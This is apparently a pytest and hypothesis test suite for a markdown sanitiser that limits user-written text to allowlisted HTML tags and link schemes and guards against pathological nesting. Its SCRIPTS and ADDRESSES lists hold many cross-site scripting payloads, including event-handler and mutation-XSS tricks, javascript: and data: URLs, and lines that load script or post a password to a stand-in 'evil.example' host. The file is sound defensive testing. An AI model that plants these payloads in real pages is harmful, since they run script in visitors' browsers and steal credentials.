"""The sanitiser: whatever anybody writes, what comes out cannot act, load, style, hide or break the page it stands in."""

import re
import time
from html.parser import HTMLParser

import cmarkgfm
import nh3
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from tracker.site import text
from tracker.site.text import excerpt, markdown, plain, visible

ALLOWED = {
    "a": {"href", "title", "rel"},
    "blockquote": set(),
    "br": set(),
    "code": set(),
    "del": set(),
    "em": set(),
    "h4": set(),
    "h5": set(),
    "h6": set(),
    "hr": set(),
    "input": {"type", "checked", "disabled"},
    "li": set(),
    "ol": {"start"},
    "p": set(),
    "pre": set(),
    "strong": set(),
    "table": set(),
    "tbody": set(),
    "td": {"align"},
    "th": {"align"},
    "thead": set(),
    "tr": set(),
    "ul": set(),
}
VOID = {"br", "hr", "input"}
SCHEME = re.compile(r"[\s\x00-\x20]*([a-z][a-z0-9+.-]*):", re.IGNORECASE)
UNSEEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufdd0-\ufdef\ufffe\uffff]")


class Witness(HTMLParser):
    """Reads what came out and objects to what is not on the list above; a parser other than those that made it."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.open = []
        self.deepest = 0
        self.words = []

    def handle_starttag(self, tag, attrs):
        assert tag in ALLOWED, tag
        names = [name for name, _ in attrs]
        assert set(names) <= ALLOWED[tag], (tag, names)
        assert len(names) == len(set(names)), (tag, names)
        given = dict(attrs)
        if tag == "a":
            assert given["rel"] == "nofollow noopener ugc"
            found = SCHEME.match(given.get("href") or "")
            assert "href" not in given or (found and found[1].lower() in {"http", "https", "mailto"}), given
            assert "a" not in self.open
        if tag == "input":
            assert given["type"] == "checkbox"
            assert "disabled" in given
        assert given.get("align") in {None, "left", "center", "right"}
        assert (given.get("start") or "1").isdigit()
        if tag not in VOID:
            self.open.append(tag)
            self.deepest = max(self.deepest, len(self.open))

    def handle_endtag(self, tag):
        assert tag not in VOID
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.words.append(data)

    def handle_comment(self, data):
        pytest.fail(f"a comment came through: {data!r}")

    def handle_decl(self, decl):
        pytest.fail(f"a declaration came through: {decl!r}")

    def handle_pi(self, data):
        pytest.fail(f"a processing instruction came through: {data!r}")

    unknown_decl = handle_decl


def witnessed(source):
    """The words of what came out, after every objection was heard."""
    found = str(markdown(source))
    witness = Witness()
    witness.feed(found)
    witness.close()
    assert not witness.open, "an element is left open, and would swallow the page"
    assert not UNSEEN.search(found)
    assert found.replace("&#39;", "'") == text._CLEANER.clean(found), "a browser would read it otherwise than it was meant"
    assert "\ue000" not in found or "\ue000" in source or "&#" in source
    return "".join(witness.words)


SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=`javascript:alert(1)`>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href=javascript:alert(1)>x",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p id=page-title class=md-header onclick=alert(1)>x</p>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml-stylesheet href=x?>",
    "<!DOCTYPE html><html><head>",
    "</article></main></body>",
    "</p></div><script>alert(1)</script>",
    "<plaintext>",
    "<frameset onload=alert(1)>",
    "<custom-element onclick=alert(1)>",
    "\ue000script>alert(1)\ue000/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "<a\x0bhref=javascript:alert(1)>",
]

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java&Tab;script:alert(1)",
    "javascript&colon;alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "\x01javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u2028javascript:alert(1)",
    "javascript\u200b:alert(1)",
    "<javascript:alert(1)>",
    "<java\\\nscript:alert(1)>",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/png;base64,iVBORw0KGgo=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://x",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:javascript:alert(1)!/",
    "livescript:x",
    "tel:+1",
    "intent://x#Intent;end",
    'x" onmouseover="alert(1)',
    "x' onmouseover='alert(1)",
    'x"><script>alert(1)</script>',
    "x`onmouseover=alert(1)",
    "x&quot; onmouseover=&quot;alert(1)",
    "//evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "https://user:pass@evil.example",
    "https://[::1",
    "http://<script>",
    "mailto:a@b?body=<script>",
]

FRAMES = [
    "{}",
    "- {}",
    "> {}",
    "# {}",
    "| a |\n|---|\n| {} |",
    "`{}`",
    "    {}",
    "```{}\nx\n```",
    "~~~ {}\nx",
    "**{}**",
    "~~{}~~",
    "[{}](x)",
    "[x](<{}>)",
    "[x](y '{}')",
    '![{}](x "{}")',
    "[x][1]\n\n[1]: {} '{}'",
    "[![{}](x)](y)",
    "1. {}\n   {}",
    "\\{}",
]


@pytest.mark.parametrize("frame", FRAMES)
@pytest.mark.parametrize("script", SCRIPTS)
def test_no_markup_of_anybody_acts_wherever_it_stands(script, frame):
    witnessed(frame.replace("{}", script))


@pytest.mark.parametrize(
    "frame", ["[x]({})", "![x]({})", "[![x]({})]({})", "[x](<{}>)", "<{}>", "[x]: {}\n\n[x] ![x]", "[x]({} 'y')", "{}", "www.{}"]
)
@pytest.mark.parametrize("address", ADDRESSES)
def test_no_address_acts(address, frame):
    witnessed(frame.replace("{}", address))


def test_markup_is_shown_as_the_text_it_is():
    """Stack traces, XML and generic types are what people paste."""
    assert markdown("List<String> got <init> in </b> <!-- x --> <?xml?>") == (
        "<p>List&lt;String&gt; got &lt;init&gt; in &lt;/b&gt; &lt;!-- x --&gt; &lt;?xml?&gt;</p>"
    )
    assert markdown("<div>\n**b**\n</div>") == "<p>&lt;div&gt;\n<strong>b</strong>\n&lt;/div&gt;</p>"
    assert markdown("`<b>` and `a < b`") == "<p><code>&lt;b&gt;</code> and <code>a &lt; b</code></p>"
    assert markdown("```xml\n<a b='c'/>\n```") == "<pre><code>&lt;a b='c'/&gt;\n</code></pre>"


def test_images_become_links_so_that_nothing_is_loaded_from_elsewhere():
    assert markdown("![A *chart*](https://x.example/a.png 'T')") == '<p><a href="https://x.example/a.png" rel="nofollow noopener ugc">A chart</a></p>'
    assert markdown("![](https://x.example/a.png)") == '<p><a href="https://x.example/a.png" rel="nofollow noopener ugc">Image</a></p>'
    assert markdown("[![A](https://x.example/a.png)](https://x.example/)") == '<p><a href="https://x.example/" rel="nofollow noopener ugc">A</a></p>'


def test_links_that_are_refused_leave_their_words():
    assert markdown("See [this](javascript:alert(1)), ![that](vbscript:x).") == "<p>See this, that.</p>"


@pytest.mark.parametrize("address", ["/en/guide", "guide.md", "../guide/", "#guide", "//other.example/guide", "?q=guide"])
def test_an_address_that_was_meant_elsewhere_leaves_its_words(address):
    """It leads nowhere on our pages, and somewhere else in each feed."""
    assert markdown(f"See [the *guide*]({address}) or ![a picture]({address}).") == "<p>See the <em>guide</em> or a picture.</p>"


def test_addresses_that_lead_somewhere_stay():
    assert markdown("[a](HTTPS://x.example/)") == '<p><a href="HTTPS://x.example/" rel="nofollow noopener ugc">a</a></p>'
    assert markdown("[a](mailto:a@x.example)") == '<p><a href="mailto:a@x.example" rel="nofollow noopener ugc">a</a></p>'


def test_headings_are_below_those_of_the_page():
    assert markdown("# One\n\n## Two\n\n###### Six") == "<h4>One</h4>\n<h5>Two</h5>\n<h6>Six</h6>"


def test_an_angle_bracket_in_an_address_stays_one():
    assert markdown("[x](http://a.example/<b>)") == '<p><a href="http://a.example/%3Cb%3E" rel="nofollow noopener ugc">x</a></p>'


def test_references_cannot_spell_what_is_taken_out():
    assert markdown("a&#8;b&#x1b;c&#x202e;d") == "<p>abcd</p>"
    assert not UNSEEN.search(markdown("&#8; &#x1b; &#x202e; &#x80; &#xFFFE; &#xD800; &#0; &lrm; &rlm; `&#8;` [a](b '&#x202e;')"))


@pytest.mark.parametrize("reference", ["&#xFFFE;", "&#XFFFF;", "&#x00fffe;", "&#65534;", "&#0065535;", "&#x1FFFE;", "&#xD800;", "&#x110000;", "&#0;"])
def test_no_reference_stops_the_build(reference):
    """U+FFFE and U+FFFF come out of the parser as bytes that are no text."""
    for frame in ("{}", "a **{}** b", "[x]({} '{}')", "```{}\nx\n```", "`{}`", "![{}](x)"):
        witnessed(frame.replace("{}", reference))
    assert markdown(f"`{reference}`") == f"<p><code>{reference.replace('&', '&amp;')}</code></p>"


def test_everything_that_markdown_offers_is_there():
    source = "*a* **b** ~~c~~ `d`\n\n- [x] e\n\n3. f\n\n> g\n\n| h |\n|:-:|\n| i |\n\n---\n\nhttps://x.example/ j\\\nk"
    assert markdown(source) == (
        "<p><em>a</em> <strong>b</strong> <del>c</del> <code>d</code></p>\n"
        '<ul>\n<li><input type="checkbox" checked="" disabled=""> e</li>\n</ul>\n'
        '<ol start="3">\n<li>f</li>\n</ol>\n<blockquote>\n<p>g</p>\n</blockquote>\n'
        '<table>\n<thead>\n<tr>\n<th align="center">h</th>\n</tr>\n</thead>\n'
        '<tbody>\n<tr>\n<td align="center">i</td>\n</tr>\n</tbody>\n</table>\n<hr>\n'
        '<p><a href="https://x.example/" rel="nofollow noopener ugc">https://x.example/</a> j<br>\nk</p>'
    )


@pytest.mark.parametrize("given_text", [None, "", " ", "\n\n", "\x00", "\u202e", "\ud800", "<!---->"])
def test_next_to_nothing_is_no_trouble(given_text):
    assert "<p>" not in markdown(given_text) or given_text == "<!---->"


PIECES = st.one_of(
    st.sampled_from([*SCRIPTS, *ADDRESSES, "&#xFFFE;", "&#x202e;", "&#8;"]),
    st.sampled_from(
        [*"<>&\"'`[]()!*_~#|-+=\\:/;.@ \n\t\r\x00\x08\x1b\u202e\u200b\ud800\ue000\ufffe", "](", "![", "<a ", "</", "&#", "```\n", "\n\n", "    "]
    ),
    st.sampled_from(
        [
            "<b",
            "on",
            "onerror=",
            "javascript:",
            "data:",
            "http://",
            "https://a.example",
            "www.",
            "mailto:",
            "a@b.c",
            "style",
            "script",
            "svg",
            "x",
            "%EE%80%80",
            "%3C",
        ]
    ),
    st.text(st.characters(codec=None), max_size=8),
)


@given(st.lists(PIECES, max_size=25).map("".join))
@settings(max_examples=1500)
@example("[a](b '<' )<!--")
@example('<a href="">[x](javascript:y)</a>')
@example('![a]("><img src=x>) <a href=""')
@example("> > > ```\n<script>")
def test_nothing_outside_the_list_comes_out_of_anything(source):
    witnessed(source)
    excerpt(source)


@given(st.text(st.characters(codec=None), max_size=200))
@settings(max_examples=500)
def test_nothing_outside_the_list_comes_out_of_any_text(source):
    witnessed(source)


@given(st.text(st.sampled_from("aBwé1 ,;.?!'\"’–—…\n-*_:()/%+=@"), max_size=40))
@example("www.a.b")
@example("see http://a.b")
@example("a\n===\nb\n---\n")
@example("a  \nb \nc")
@settings(max_examples=3000)
def test_the_short_cut_for_plain_paragraphs_gives_what_the_long_way_gives(source):
    quick = plain(source)
    if quick is not None:
        slow = nh3.clean(cmarkgfm.github_flavored_markdown_to_html(source, text._OPTIONS)).strip()
        assert str(quick) == slow


@given(
    st.lists(
        st.sampled_from(["a", " ", "\n", "\n\n", "|", "-|-", "~", "~~", "http://a.b", "www.c.d", "e@f.gh", "- [ ] ", "- [X] ", "`", "*"]), max_size=20
    ).map("".join)
)
@settings(max_examples=1000)
def test_an_extension_that_is_left_out_would_have_changed_nothing(source):
    whole = cmarkgfm.markdown_to_html_with_extensions(source, text._OPTIONS, ["table", "autolink", "strikethrough", "tasklist"])
    assert text._html(source) == whole


DEEP = {
    "quotes": ">",
    "quotes, spaced": "> ",
    "quoted lists": ">- ",
    "lists": "- a\n",
    "numbers": "1) ",
    "brackets": "[",
    "links": "[a](",
    "images": "![",
    "linked images": "[![a](b)](c)",
    "emphasis": "*a",
    "strong": "**a ",
    "mixed emphasis": "*_",
    "strikes": "~~a*",
    "backticks": "`a",
    "fences": "```\n",
    "tags": "<a",
    "comments": "<!--",
    "sections": "<![CDATA[",
    "instructions": "<?",
    "entities": "&#1114111;",
    "references": "&#xFFFE;",
    "ampersands": "&",
    "autolinks": "http://a",
    "www": "www.a._",
    "letters": "a.b-",
    "angles": "<http://",
    "backslashes": "\\",
    "carriage returns": "a\r",
    "setext": "a\n=\n",
    "tables": "|a|\n|-|\n\n",
    "definitions": "[a]: b\n[a]\n\n",
    "tasks": "- [ ] a\n",
    "titles": "[a](x '",
    "attributes": '<a href="',
    "dots": "a. ",
    "digits": "1. a ",
    "zeroes": "\x00",
    "turns": "\u202e",
}


@pytest.mark.parametrize("name", DEEP)
def test_a_text_of_full_length_is_rendered_in_a_second_whatever_it_repeats(name):
    """100,000 characters are what a field may hold."""
    piece = DEEP[name]
    source = (piece * (100_000 // len(piece) + 1))[:100_000]
    start = time.process_time()
    found = markdown(source)
    excerpt(source)
    assert time.process_time() - start < 1
    assert len(found) < 10 * len(source)


@pytest.mark.parametrize(
    "source",
    [
        ">" * 50_000,
        "[" * 50_000,
        "*" * 50_000 + "a" + "*" * 50_000,
        "*_" * 25_000 + "a" + "_*" * 25_000,
        "[" * 50_000 + "a" + "](x)" * 12_000,
        "".join(">" * (n % 200) + "a\n\n" for n in range(900)),
        "".join("  " * n + "- a\n" for n in range(300)),
        "|a" * 2_000 + "|\n" + "|-" * 2_000 + "|\n" + "|\n" * 45_000,
        "|a" * 300 + "|\n" + "|-" * 300 + "|\n" + "|\n" * 45_000,
    ],
    ids=["quotes", "brackets", "stars", "emphasis", "links", "quotes of all depths", "lists", "wide table", "long table"],
)
def test_nesting_without_end_comes_to_one(source):
    start = time.process_time()
    words = markdown(source)
    assert time.process_time() - start < 2
    witness = Witness()
    witness.feed(words)
    assert witness.deepest <= 120
    assert len(words) < 8_000_000


def test_what_is_nested_too_deep_is_shown_as_it_was_written():
    assert markdown(">" * 60 + " a").count("<blockquote>") == 60
    assert markdown(">" * 200 + " <b>\x08") == "<pre><code>" + "&gt;" * 200 + " &lt;b&gt;</code></pre>"


@given(st.text(st.characters(codec=None)))
def test_what_is_visible_can_be_written_as_utf8_and_xml_and_stays_the_same(source):
    found = visible(source)
    assert not UNSEEN.search(found)
    assert visible(found) == found
    found.encode()
    assert [c for c in source if not UNSEEN.match(c)] == list(found)


def test_what_people_write_stays():
    words = "Grüße, שלום, 👩‍👩‍👧 ok\tand\nmore — “quoted” … 日本語 \u00ad\u200d"
    assert visible(words) == words


@pytest.mark.parametrize(
    ("source", "words"),
    [
        ("**Free**, and (*not* cheap).", "Free, and (not cheap)."),
        ("# Head\n\nOne\n\n- two\n- three", "Head One two three"),
        ("a <b> &amp; `c<d>`", "a <b> & c<d>"),
        ("[text](https://x.example/) ![pic](y)", "text pic"),
        ("&#8;&#x202e;a", "a"),
        (None, ""),
        ("word " * 100, "word " * 29 + "word…"),
        ("One sentence. " * 20, "One sentence. " * 10 + "One sentence…"),
        ("x" * 1000, "x" * 154 + "…"),
    ],
)
def test_an_excerpt_is_plain_words(source, words):
    assert excerpt(source) == words


@given(st.lists(PIECES, max_size=40).map("".join), st.integers(10, 200))
def test_an_excerpt_is_one_line_within_its_length(source, length):
    found = excerpt(source, length)
    assert len(found) <= length
    assert "\n" not in found
    assert not UNSEEN.search(found)


@given(st.lists(PIECES, max_size=40).map("".join))
@settings(max_examples=1000)
@example("https://a.example/b?c=d#e and [f](http://g-h.example:8080)")
@example("[a ![b](http://c.example) d](http://e.example)")
@example("http://xn--a.example http://1.2.3.999 http://a%3C.example http://a..example")
def test_what_is_not_cleaned_needs_no_cleaning(source):
    """Where the cleaner is left out, it would have changed nothing."""
    found = str(markdown.__wrapped__(source))
    assert text._CLEANER.clean(found) == found
